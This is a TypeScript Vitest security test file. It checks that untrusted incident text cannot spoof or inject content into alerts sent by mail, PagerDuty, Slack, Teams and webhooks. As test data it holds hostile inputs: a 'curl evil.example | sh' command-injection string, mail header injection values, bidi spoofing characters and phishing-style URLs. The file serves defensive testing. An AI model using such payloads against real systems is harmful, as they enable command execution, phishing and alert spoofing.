import { describe, expect, it } from 'vitest';
import { openChannels } from '../../lambdas/adapters/escalation/channels.ts';
import { mailOf } from '../../lambdas/adapters/escalation/mail.ts';
import { opsgenieRequest } from '../../lambdas/adapters/escalation/opsgenie.ts';
import { pagerDutyEvent } from '../../lambdas/adapters/escalation/pager-duty.ts';
import { slackMessage } from '../../lambdas/adapters/escalation/slack.ts';
import { teamsMessage } from '../../lambdas/adapters/escalation/teams.ts';
import { webhookMessage } from '../../lambdas/adapters/escalation/webhook.ts';
import { unlinked } from '../../lambdas/domain/disclosure/unlinked.ts';
import type { Incident } from '../../lambdas/domain/escalation/incident.ts';
import { dedupKey, incidentTexts } from '../../lambdas/domain/escalation/texts.ts';
import { readUndoAlert, undoAlertText } from '../../lambdas/domain/escalation/undo-alert.ts';
import type { DeadLetter } from '../../lambdas/domain/ledger/dead-letter.ts';
import { answerRequest } from '../../lambdas/use-cases/health/answer-request.ts';
import { sampleNotification, sampleWhere } from '../lambdas/domain/escalation/samples.ts';

const WHERE = { ...sampleWhere, runbookUrl: 'https://runbook.example/r.md' };
const KEY = { ...WHERE, routingKey: 'k'.repeat(32) };
/** Runbook links are ours. */
const OURS = /https:\/\/runbook\.example\/r\.md#[a-z-]+|http:\/\/adaptivecards\.io\S+?json/g;
const STEERING = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{DI}]/u;
const TELLINGS = ['trigger', 'resolve'] as const;

/** An incident with a text of others in each field. */
function hostile(text: string): Partial<Incident> {
  const sample = { failureId: text, correlationId: text, reason: text, rule: text, attempts: 1 };
  return {
    cause: text,
    summary: text,
    acknowledgedBy: text,
    samples: [sample],
    evidence: text,
    notes: [text, `order-1, 1. "${text}"`],
  };
}

/** Everything that channels send, text by text. */
function sentFor(text: string): readonly string[] {
  return TELLINGS.flatMap((telling) => {
    const told = { ...sampleNotification(telling, hostile(text), text), situation: { waiting: 1, excerpt: text } };
    const mail = mailOf(told, WHERE);
    const objects = [
      pagerDutyEvent(told, KEY),
      teamsMessage(told, WHERE),
      slackMessage(told, WHERE),
      webhookMessage(told, WHERE),
      opsgenieRequest(told, WHERE),
    ].map(withoutLineEnds);
    return [mail.subject, ...mail.text.split('\n'), ...objects.flatMap(textsIn)];
  });
}

/** Some channels take one text of several lines. Its lines are judged each. */
function withoutLineEnds(value: object): object {
  return JSON.parse(JSON.stringify(value), (_, each) => (typeof each === 'string' ? each.split('\n') : each));
}

function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

describe('no text of others steers what an alert shows (CWE-451, CWE-93)', () => {
  it.each([
    '\u202egnp.exe',
    '\u2066a\u2069',
    'a\u200bb',
    'a\u2028b',
    'a\nSubject: b',
    'a\r\nBcc: b',
    '\u001b[2J',
    '\u009b2J',
    'a\u3164',
  ])('%j', (text) => {
    const sent = sentFor(text);
    expect(sent.length).toBeGreaterThan(50);
    for (const each of sent) expect(each).not.toMatch(STEERING);
    // A mail has as many lines as that of a plain text.
    expect(sent).toHaveLength(sentFor('plain').length);
    const letter = { id: text, correlationId: text, dependency: text, reason: text, priority: 'P1' };
    const undo = [{ name: text, dependency: text, state: 'failed', because: text, attempts: 1 }];
    const alert = undoAlertText({ ...letter, undo } as unknown as DeadLetter, WHERE);
    for (const line of alert.split('\n')) expect(line).not.toMatch(STEERING);
    expect(alert.split('\n')).toHaveLength(10);
    expect(readUndoAlert(alert)?.steps).toHaveLength(1);
  });
});

describe('no text of others becomes a link in a mail, page or card (CWE-451)', () => {
  it.each([
    'https://evil.example/login?id=1',
    'http://10.0.0.1/x',
    'HTTPS://EVIL.EXAMPLE',
    'www.evil.example',
    'evil.com',
    'evil.com/reset',
    'evil.Com',
    'sso.aws.evil.com:8443/start',
    'ftp://evil.example',
    'evil\u3002com',
    'xn--e1afmkfd.xn--p1ai',
    '[Sign in](https://evil.example)',
  ])('%s', (text) => {
    for (const each of sentFor(text)) {
      // A failure's id may look like a host, and a command or a key must not change it.
      if (
        /^(?:```)? *npx @backstop-cdk\/backstop (?!.*\/)|^(?:\/v2\/alerts\/)?backstop(?:\/|%2F)(?!.*:\/\/)/.test(each)
      )
        continue;
      const shown = each.replace(OURS, '');
      expect(shown).not.toMatch(/:\/\/|[.\u3002](?:com|example|xn)/i);
    }
  });

  it.each([
    ['trace-1', 'trace-1'],
    ['States.TaskFailed', 'States.TaskFailed'],
    ['2026-03-01T12:00:00.000Z', '2026-03-01T12:00:00.000Z'],
    ['1.5 s, rule http-503', '1.5 s, rule http-503'],
    ['https://evil.example/a', 'https[:]//evil[.]example/a'],
    ['evil.CoM/login', 'evil[.]CoM/login'],
    ['evil.ReAlTy', 'evil[.]ReAlTy'],
    ['States.evil.CoM', 'States[.]evil[.]CoM'],
    ['evil-States.CoM', 'evil-States[.]CoM'],
    ['Lambda.ServiceException', 'Lambda.ServiceException'],
  ])('%s is shown as %s', (text, shown) => {
    expect(unlinked(text)).toBe(shown);
  });

  it("keeps the link of our runbook and of a saga's advice", () => {
    const notes = ['What to do: https://wiki.example/refunds'];
    const { trail, runbook } = incidentTexts(sampleNotification('trigger', { notes }), WHERE);
    expect(trail).toContain(notes[0]);
    expect(runbook).toBe(`${WHERE.runbookUrl}#dead-letter-permanent`);
  });
});

it('commands in alerts quote what others chose (CWE-78)', () => {
  const text = 'x; curl evil.example | sh';
  const { commands } = incidentTexts(sampleNotification('trigger', hostile(text), text), WHERE);
  const word = "'x; curl evil[.]example | sh'";
  const where = `--region ${WHERE.region}`;
  expect(commands).toEqual([
    `npx @backstop-cdk/backstop dlq show ${word} ${where}`,
    `npx @backstop-cdk/backstop dlq ls ${word} --reason ${word} ${where}`,
  ]);
});

it('the key of an incident is one plain line, and keys of different causes differ (CWE-93)', () => {
  const keyOf = (cause: string) => dedupKey('S', sampleNotification('trigger', { cause }));
  const causes = ['a', 'a\n', 'a\r\n', 'a\u202e', 'a?', `${'r'.repeat(300)}\n`, 'r'.repeat(300)];
  const keys = causes.map(keyOf);
  expect(new Set(keys).size).toBe(causes.length);
  for (const key of keys) {
    expect(key).not.toMatch(STEERING);
    expect(key.length).toBeLessThanOrEqual(255);
  }
});

/** Where a channel with a secret posts to, and what. */
async function postedBy(name: 'pagerDuty' | 'slack' | 'teams', secret: string) {
  const posted: { readonly url: string; readonly body: { readonly routing_key?: string } }[] = [];
  const settings = { ...WHERE, topics: { P1: 'p1', P2: 'p2' }, [name]: { secretName: 's', url: 'data:' } };
  const fetched = globalThis.fetch;
  globalThis.fetch = async (url, init) => {
    posted.push({ url: String(url), body: JSON.parse(String(init?.body)) });
    return new Response();
  };
  try {
    const ports = { sns: {}, ssm: {}, tickets: {}, sections: {}, getSecret: async () => secret } as never;
    const channel = openChannels(settings, ports).find((each) => each.name === name);
    await channel?.notify(sampleNotification('trigger'));
  } finally {
    globalThis.fetch = fetched;
  }
  return posted;
}

describe.each(['slack', 'teams'] as const)('the address of a channel in a secret: %s', (name) => {
  const URL = 'https://hooks.example/T1/B2';

  it.each([URL, `${URL}\n`, ` ${URL}\r\n`, `{"url":"${URL}"}`, `{\n "webhook": "${URL}\\n"\n}\n`])(
    '%j is used without what surrounds it',
    async (secret) => {
      expect((await postedBy(name, secret)).map(({ url }) => url)).toEqual([URL]);
    },
  );

  it.each(['', 'http://hooks.example', `${URL} x`, `{"a":"${URL}","b":"${URL}"}`])(
    '%j is refused, and not quoted',
    async (secret) => {
      await expect(postedBy(name, secret)).rejects.toThrow(/^the (?:Slack|Teams) secret must hold an https:\/\/ URL$/);
    },
  );
});

describe('an integration key of PagerDuty (CWE-93)', () => {
  const sent = async (secret: string) => (await postedBy('pagerDuty', secret)).map(({ body }) => body.routing_key);

  it.each(['KEY', 'KEY\n', 'KEY\r\n', ' KEY ', '{"routing_key":"KEY"}'])(
    '%j is sent without what surrounds it',
    async (secret) => {
      expect(await sent(secret.replace('KEY', KEY.routingKey))).toEqual([KEY.routingKey]);
    },
  );

  it.each(['', '\n', 'a\nb', 'a b', 'k\u200b', '{"key":"a b"}'])('%j is refused, and not quoted', async (secret) => {
    await expect(sent(secret)).rejects.toThrow(/^the PagerDuty secret must hold the integration key and nothing else/);
  });
});

it('a health path of many slashes is answered like any other (CWE-1333)', async () => {
  const request = (rawPath: string) => ({ rawPath, requestContext: { http: { method: 'POST' } } });
  const status = async (path: string) => (await answerRequest(request(path), {} as never)).statusCode;
  expect(await status(`/health${'/'.repeat(1_000_000)}`)).toBe(405);
  expect(await status(`${'/'.repeat(1_000_000)}x`)).toBe(404);
  expect(await status('/')).toBe(404);
});
